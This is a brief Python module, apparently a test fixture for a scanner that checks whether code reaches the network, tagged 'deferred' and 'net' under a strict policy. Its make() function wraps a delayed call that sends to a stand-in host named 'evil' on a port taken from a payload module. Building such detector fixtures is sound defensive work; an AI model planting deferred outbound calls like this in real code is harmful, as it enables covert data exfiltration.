"""The same under the strict walk."""
CATEGORY = "deferred"
REACH = "net"
POLICY = {"$walk": "strict"}

import functools

from good import later

from . import payload


def make():
    return functools.partial(next, later.sending("evil", payload.PORT))
